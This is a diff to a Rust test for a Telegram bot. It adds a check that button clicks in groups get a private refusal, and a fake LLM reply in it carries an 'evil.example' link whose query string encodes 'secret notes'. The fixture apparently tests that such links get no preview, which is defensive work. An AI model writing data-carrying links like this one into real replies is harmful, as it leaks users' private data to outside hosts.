@@ -100,8 +100,18 @@ async fn messages_in_a_group_start_nothing_and_no_message_shows_a_link_preview()
         "ciao bot",
     );
     s.tg.message_in(SMALL_GROUP, "group", user(ADA, "Ada", "en"), "approve 1234");
+    // A click on a message in a group is answered to the clicker alone.
+    s.tg.click(GROUP, 3, user(ADA, "Ada", "en"), "approve:abc");
     s.tg.until("all confirmed", FakeTelegram::all_confirmed)
         .await;
+    s.tg.until("the click answered", |tg| {
+        tg.calls("answerCallbackQuery").iter().any(|c| {
+            c.body["text"]
+                .as_str()
+                .is_some_and(|t| t.starts_with("I do not answer in groups"))
+        })
+    })
+    .await;
     // Ada's private message after them is answered: the group's were read and dropped.
     s.llm.push(Reply::Text(
         "Done: https://evil.example/p?d=c2VjcmV0IG5vdGVz".into(),
